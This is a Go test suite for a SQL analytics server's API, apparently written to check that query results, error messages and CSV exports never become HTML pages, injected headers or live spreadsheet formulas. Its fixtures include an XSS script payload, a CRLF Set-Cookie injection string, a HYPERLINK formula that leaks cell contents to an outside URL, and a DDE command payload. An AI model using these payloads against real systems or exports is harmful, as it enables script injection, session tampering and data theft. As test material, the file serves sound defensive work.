package api_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/helios-sql/helios/internal/api"
	"github.com/helios-sql/helios/internal/auth"
	"github.com/helios-sql/helios/internal/event"
	"github.com/helios-sql/helios/internal/ingest"
	"github.com/helios-sql/helios/internal/query"
	"github.com/helios-sql/helios/internal/store/duckdb"
)

const (
	page    = "<!DOCTYPE html><script>alert(1)</script>"
	header  = "x\r\nSet-Cookie: helios=planted\r\n\r\n<script>alert(1)</script>"
	formula = `=HYPERLINK("http://example.com/?"&A1,"a, b")`
)

// noPage asserts that an answer is nothing that a browser shows as a page, and that nothing of it became a header.
func noPage(t *testing.T, w *httptest.ResponseRecorder, mediaTypes ...string) {
	t.Helper()
	require.Equal(t, []string{"nosniff"}, w.Header().Values("X-Content-Type-Options"))
	if w.Body.Len() > 0 || len(w.Header().Values("Content-Type")) > 0 {
		require.Len(t, w.Header().Values("Content-Type"), 1)
		is := w.Header().Get("Content-Type")
		media, _, _ := strings.Cut(is, ";")
		require.True(t, slices.Contains(mediaTypes, is) || slices.Contains(mediaTypes, media), is)
	}
	for name, values := range w.Header() {
		require.NotContains(t, strings.Join(values, "|"), "planted", name)
		require.NotContains(t, strings.Join(values, "|"), "<", name)
		require.False(t, strings.ContainsAny(strings.Join(values, "|"), "\r\n"), name)
	}
}

// engineHouse runs its queries on the engine of a server.
func engineHouse(t *testing.T) *house {
	t.Helper()
	db, err := duckdb.Open(t.Context(), t.TempDir(), duckdb.Options{Threads: 1})
	require.NoError(t, err)
	t.Cleanup(func() { require.NoError(t, db.Close(context.Background())) })
	return openHouse(t, func(d *api.Deps) {
		queries := query.New(db, query.Options{})
		d.Queries, d.Inspector = queries, query.NewInspector(queries, db)
	})
}

func quoted(text string) string { return "'" + strings.ReplaceAll(text, "'", "''") + "'" }
func named(text string) string  { return `"` + strings.ReplaceAll(text, `"`, `""`) + `"` }

func TestWhatEventsHoldStaysDataInEveryForm(t *testing.T) {
	h := engineHouse(t)
	evil := []string{page, header, formula, `"`, "a\r\nb,c", "-2+3|cmd' /C calc'!A0", "\t=1", "@x", "ü"}
	var columns []string
	for _, text := range evil {
		columns = append(columns, quoted(text)+" AS "+named(text))
	}
	statement, err := json.Marshal("SELECT -1 AS n, " + strings.Join(columns, ", "))
	require.NoError(t, err)
	ask := func(accept, more string) *httptest.ResponseRecorder {
		w := call(t, h, "POST", "/api/v1/query", `{"sql":`+string(statement)+more+`}`, "Accept: "+accept)
		require.Equal(t, 200, w.Code, w.Body)
		return w
	}
	for accept, media := range map[string]string{
		"application/json": "application/json", "application/x-ndjson": "application/x-ndjson", "application/vnd.apache.parquet": "application/vnd.apache.parquet",
		"application/vnd.apache.arrow.stream": "application/vnd.apache.arrow.stream", "text/csv": "text/csv; charset=utf-8; header=present",
	} {
		noPage(t, ask(accept, ""), media)
	}
	var said struct {
		Rows [][]any `json:"rows"`
	}
	require.NoError(t, json.Unmarshal(ask("application/json", "").Body.Bytes(), &said))
	for i, text := range evil {
		require.Equal(t, text, said.Rows[0][i+1])
	}

	read := func(more string) [][]string {
		text := ask("text/csv", more).Body.String()
		all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		require.NoError(t, err, text)
		require.Len(t, all, 2)
		require.Equal(t, "-1", all[1][0], "a number is one")
		return [][]string{all[0][1:], all[1][1:]}
	}
	guarded := slices.Clone(evil)
	for i, text := range guarded {
		if strings.ContainsAny(text[:1], "=-@\t") {
			guarded[i] = "'" + text
		}
	}
	lines := func(texts []string) (all []string) { // encoding/csv makes \n of \r\n
		for _, text := range texts {
			all = append(all, strings.ReplaceAll(text, "\r\n", "\n"))
		}
		return all
	}
	require.NotEqual(t, evil, guarded)
	require.Equal(t, [][]string{lines(guarded), lines(guarded)}, read(""), "names come from events, too")
	require.Equal(t, [][]string{lines(guarded), lines(guarded)}, read(`,"formulas":"quote"`))
	require.Equal(t, [][]string{lines(evil), lines(evil)}, read(`,"formulas":"keep"`))
	require.Equal(t, 422, call(t, h, "POST", "/api/v1/query", `{"sql":"SELECT 1","formulas":"run"}`).Code)
}

func TestErrorsThatQuoteEventsAreNoPages(t *testing.T) {
	h := engineHouse(t)
	const problems = "application/problem+json"
	for _, text := range []string{page, header} {
		for _, sql := range []string{
			"SELECT CAST(" + quoted(text) + " AS INTEGER)", "SELECT * FROM " + named(text), text, "SELECT error(" + quoted(text) + ")",
			"SELECT CASE WHEN i < 90000 THEN i ELSE error(" + quoted(text) + ") END FROM range(90001) t(i)",
		} {
			body, err := json.Marshal(map[string]string{"sql": sql})
			require.NoError(t, err)
			for _, accept := range []string{"text/html", "text/html, */*", "text/csv"} {
				for _, target := range []string{"/api/v1/query", "/api/v1/sql/explain"} {
					func() {
						defer func() { // a result that has begun breaks off
							if broken := recover(); broken != nil {
								require.Equal(t, http.ErrAbortHandler, broken)
							}
						}()
						noPage(t, call(t, h, "POST", target, string(body), "Accept: "+accept), problems, "application/json")
					}()
				}
			}
		}
		name, err := json.Marshal(text)
		require.NoError(t, err)
		made := call(t, h, "POST", "/api/v1/saved-queries", `{"name":`+string(name)+`,"sql":"SELECT 1"}`)
		noPage(t, made, problems, "application/json")
		for _, target := range []string{
			"/api/v1/tables/", "/api/v1/sources/", "/api/v1/saved-queries/", "/api/v1/dashboards/", "/api/v1/quarantine/", "/api/v1/nothing/", "/api/v1/tables/clicks/columns/",
			"/api/v1/sources/nothing/tail?filter=", "/api/v1/audit?search=", "/api/v1/query-history?before=", "/api/v1/streams?region=", "/api/v1/streams?nothing=",
		} {
			noPage(t, call(t, h, "GET", target+url.QueryEscape(text), ""), problems, "application/json")
			noPage(t, call(t, h, "PURGE", target+url.QueryEscape(text), ""), problems)
		}
	}
	saved := said(t, call(t, h, "GET", "/api/v1/saved-queries", ""), 200)["saved_queries"].([]any)
	require.NotEmpty(t, saved, "a name with the page in it is a name")
	for _, q := range saved {
		id := q.(map[string]any)["id"].(string)
		noPage(t, call(t, h, "POST", "/api/v1/saved-queries/"+id+"/run", `{}`, "Accept: text/csv"), "text/csv; charset=utf-8; header=present")
	}
}

// TestNoRouteAnswersWithAPage goes through all routes with names that hold one.
func TestNoRouteAnswersWithAPage(t *testing.T) {
	h := closedHouse(t)
	h.world.Quarantined = []ingest.Quarantined{{Rejected: event.Rejected{
		Event: event.Event{Record: &event.Record{ShardID: page, Sequence: "1", PartitionKey: page}, Data: []byte(page)}, Reason: event.MalformedJSON, Message: page,
	}}}
	var described struct {
		Paths map[string]map[string]struct {
			Responses map[string]struct {
				Content map[string]any `json:"content"`
			} `json:"responses"`
		} `json:"paths"`
	}
	require.NoError(t, json.Unmarshal(call(t, h, "GET", "/openapi.json", "", h.asOnce(auth.Viewer)).Body.Bytes(), &described))
	admin := h.asOnce(auth.Admin)
	for _, o := range operations(t, h) {
		for _, name := range []string{"clicks", url.PathEscape(page), url.PathEscape(header)} {
			if strings.HasSuffix(o.path, "/tail") && name == "clicks" {
				continue // which has no end
			}
			for _, sent := range []string{admin, "X-Nobody: known"} {
				w := call(t, h, o.method, o.target(name), `{"`+page+`":1}`, sent, "Accept: text/html")
				answers := described.Paths[o.path][strings.ToLower(o.method)].Responses
				noPage(t, w, slices.Collect(maps.Keys(answers[strconv.Itoa(w.Code)].Content))...)
				require.NotContains(t, w.Header().Get("Content-Type"), "html", o.path)
			}
		}
	}
}
